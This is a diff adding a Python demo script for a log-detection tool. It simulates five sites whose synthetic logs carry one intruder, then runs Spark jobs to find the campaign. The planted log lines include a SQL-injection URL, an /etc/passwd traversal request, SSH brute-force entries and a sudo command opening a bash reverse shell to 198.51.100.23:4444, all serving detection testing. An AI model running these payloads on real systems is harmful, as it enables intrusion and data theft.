@@ -1,0 +1,193 @@
+"""Five sites, one intruder, and what the region makes of it: real agents, then the Spark jobs an analyst needs.
+
+Five agents, one after the other, each with its own site, store and raw log in ``build/fleet``, judge an hour of
+ordinary syslog and web traffic, in which one address tries a web server, guesses passwords and gets in; one site sees
+nothing of it. Their alerts land in one folder. Then: ingest with a lookup of the sites, campaigns, report, export; and
+the last step of an analyst's walk, from the gravest alert to its line in the raw log of its host, by ``raw_ref``.
+
+Ends with exit code 1 when the intruder is no campaign, or the raw line is not the one that was judged.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+import sys
+import time
+from datetime import UTC, datetime, timedelta
+from typing import Any
+
+from demo.__main__ import ROOT, VEDETTE, command, say
+
+WORK = ROOT / "build" / "fleet"
+INTRUDER = "198.51.100.23"
+LINES, REQUESTS = 3000, 1000
+
+SITES = (
+    ("vienna", "Vienna", "AT", 48.2, 16.4, "Europe/Vienna", 0),
+    ("lisbon", "Lisbon", "PT", 38.7, -9.1, "Europe/Lisbon", 6),
+    ("athens", "Athens", "GR", 38.0, 23.7, "Europe/Athens", 11),
+    ("dublin", "Dublin", "IE", 53.3, -6.3, "Europe/Dublin", 19),
+    ("oslo", "Oslo", "NO", 59.9, 10.8, "Europe/Oslo", None),
+)
+"""Site, name, country, latitude, longitude, time zone; minutes until the intruder comes, None for never."""
+
+CONFIG = """\
+[agent]
+id = "edge-{site}-1"
+site = "{site}"
+fleet = "demo"
+data_dir = "{folder}/data"
+
+[[input]]
+name = "auth"
+type = "file"
+paths = ["{folder}/auth.log"]
+timezone = "UTC"
+from_start = true
+logsource = {{ product = "linux" }}
+
+[[input]]
+name = "web"
+type = "file"
+paths = ["{folder}/access.log"]
+format = "access"
+from_start = true
+
+[rules]
+paths = ["{rules}"]
+
+[uplink]
+type = "directory"
+path = "{landing}"
+heartbeat = "1s"
+
+[log]
+level = "warning"
+"""
+
+
+def intrusion(site: str, start: datetime) -> tuple[list[str], list[str]]:
+    """Syslog lines and web requests of the intruder at ``site``, beginning at ``start``."""
+
+    def at(seconds: int) -> str:
+        return f"{start + timedelta(seconds=seconds):%b %d %H:%M:%S}"
+
+    def asked(seconds: int, path: str, code: int, agent: str) -> str:
+        when = f"{start + timedelta(seconds=seconds):%d/%b/%Y:%H:%M:%S} +0000"
+        return f'{INTRUDER} - - [{when}] "GET {path} HTTP/1.1" {code} 512 "-" "{agent}"'
+
+    host = f"web1.{site}"
+    web = [
+        asked(0, "/shop?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", 200, "sqlmap/1.7"),
+        asked(20, "/../../../../etc/passwd", 404, "curl/8.0"),
+    ]
+    auth = [f"<38>{at(60)} {host} sshd[711]: Invalid user admin from {INTRUDER} port 40100"]
+    auth += [
+        f"<38>{at(62 + 2 * n)} {host} sshd[{712 + n}]: Failed password for root from {INTRUDER} port {40101 + n} ssh2"
+        for n in range(5)
+    ]
+    auth += [f"<38>{at(80)} {host} sshd[720]: Accepted password for root from {INTRUDER} port 40110 ssh2"]
+    if site == "dublin":
+        shell = f"/bin/bash -c bash -i >& /dev/tcp/{INTRUDER}/4444 0>&1"
+        auth += [f"<85>{at(110)} {host} sudo[900]:     root : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND={shell}"]
+    return auth, web
+
+
+def traffic(number: int, site: str, minutes: int | None, now: datetime) -> None:
+    """An hour of the site's logs, the intruder's lines at their time."""
+    folder, start = WORK / site, now - timedelta(hours=1)
+    auth, web = ([], []) if minutes is None else intrusion(site, start + timedelta(minutes=minutes))
+    for kind, name, count, planted in (("syslog", "auth.log", LINES, auth), ("access", "access.log", REQUESTS, web)):
+        made = command(
+            sys.executable, "-m", "bench.traffic", "--count", count, "--seed", 40 + number, "--kind", kind,
+            "--start", f"{start:%Y-%m-%dT%H:%M:%S+00:00}", "--per-second", 1,
+        )  # fmt: skip
+        lines = made.splitlines()
+        place = 0 if minutes is None else min(len(lines), minutes * 60)
+        (folder / name).write_text("\n".join([*lines[:place], *planted, *lines[place:]]) + "\n")
+
+
+def agent(site: str) -> dict[str, Any]:
+    """Run the site's agent until its logs are judged and its alerts are in the landing; its last status."""
+    config = WORK / site / "vedette.toml"
+    folder, landing = WORK / site, WORK / "landing"
+    config.write_text(CONFIG.format(site=site, folder=folder, landing=landing, rules=ROOT / "rules" / "sigma"))
+    wanted = sum(len((WORK / site / name).read_bytes().splitlines()) for name in ("auth.log", "access.log"))
+    with (WORK / site / "agent.log").open("wb") as log:
+        process = subprocess.Popen([VEDETTE, "run", "-c", config], cwd=ROOT, stdout=log, stderr=log)
+    try:
+        deadline = time.monotonic() + 120
+        while time.monotonic() < deadline:
+            done = subprocess.run([VEDETTE, "status", "-c", config, "--json"], capture_output=True, text=True, cwd=ROOT)
+            if done.stdout.startswith("{"):
+                now: dict[str, Any] = json.loads(done.stdout)
+                judged = sum(one["judged"] for one in now["inputs"].values())
+                if judged >= wanted and not now["alerts"]["in_outbox"]:
+                    time.sleep(1.5)  # one more heartbeat
+                    return now
+            time.sleep(0.3)
+        sys.exit(f"{site}: not judged in 120 s\n{(WORK / site / 'agent.log').read_text()[-2000:]}")
+    finally:
+        process.terminate()
+        process.wait(30)
+
+
+def raw_line(alert: dict[str, Any]) -> str:
+    """The line of an exported finding in the raw log of its host, by the command that an analyst gives there."""
+    ref, config = alert["unmapped"]["raw_ref"], WORK / alert["unmapped"]["site"] / "vedette.toml"
+    place = f"{ref['log_id']}:{ref['offset']}+{ref['length']}"
+    print(f"$ vedette logs show -c {config.relative_to(ROOT)} {place}")
+    return command(VEDETTE, "logs", "show", "-c", config, place).removesuffix("\n")
+
+
+def main() -> None:
+    shutil.rmtree(WORK, ignore_errors=True)
+    now = datetime.now(UTC).replace(microsecond=0)
+    say(f"Five agents judge {LINES:,} log lines and {REQUESTS:,} requests each; {INTRUDER} visits four of the sites")
+    for number, (site, *_, minutes) in enumerate(SITES):
+        (WORK / site).mkdir(parents=True)
+        traffic(number, site, minutes, now)
+        last = agent(site)
+        judged = sum(one["judged"] for one in last["inputs"].values())
+        print(f"{site:8} {judged:,} events judged, {last['alerts']['receipted']:,} alerts landed")
+
+    lookups = WORK / "lookups"
+    lookups.mkdir()
+    rows = "".join(
+        f"{site},demo,{name},{land},{latitude},{longitude},{zone}\n"
+        for site, name, land, latitude, longitude, zone, _ in SITES
+    )
+    (lookups / "sites.csv").write_text(f"site,fleet,name,country,latitude,longitude,timezone\n{rows}")
+
+    job = (sys.executable, "-m", "spark_jobs")
+    quiet = {**os.environ, "SPARK_LOCAL_IP": "127.0.0.1"}
+    tables, page, master = WORK / "tables", WORK / "report.html", ("--master", "local[2]")
+    say("Spark: ingest, then campaigns")
+    print(command(*job, "ingest", "--landing", WORK / "landing", "--tables", tables, "--lookups", lookups, *master,
+                  env=quiet), end="")  # fmt: skip
+    print(command(*job, "campaigns", "--tables", tables, *master, env=quiet), end="")
+
+    say("The report of two days, and its first screen")
+    said = command(*job, "report", "--tables", tables, "--days", 2, "--html", page)
+    print(said.partition("\nLevels")[0])
+    if INTRUDER not in said.partition("Look at first")[2].partition("\n\n")[0]:
+        sys.exit(f"{INTRUDER} is no campaign")
+
+    say("From the gravest alert about it to its line in the raw log of its host")
+    command(*job, "export", "--tables", tables, "--format", "ocsf", "--days", 2, "--out", WORK / "export")
+    found = [json.loads(line) for file in sorted((WORK / "export").iterdir()) for line in file.read_text().splitlines()]
+    mine = [one for one in found if INTRUDER in one.get("raw_data", "") and one["activity_id"] == 1]
+    gravest = max(mine, key=lambda one: (one["severity_id"], one["time"]))
+    print(f"{gravest['severity']}: {gravest['message']} on {gravest['device']['hostname']}")
+    line = raw_line(gravest)
+    print(line)
+    if line != gravest["raw_data"]:
+        sys.exit("which is not the line that was judged")
+    say(f"Done. The page: {page.relative_to(ROOT)}")
+
+
+if __name__ == "__main__":
+    main()
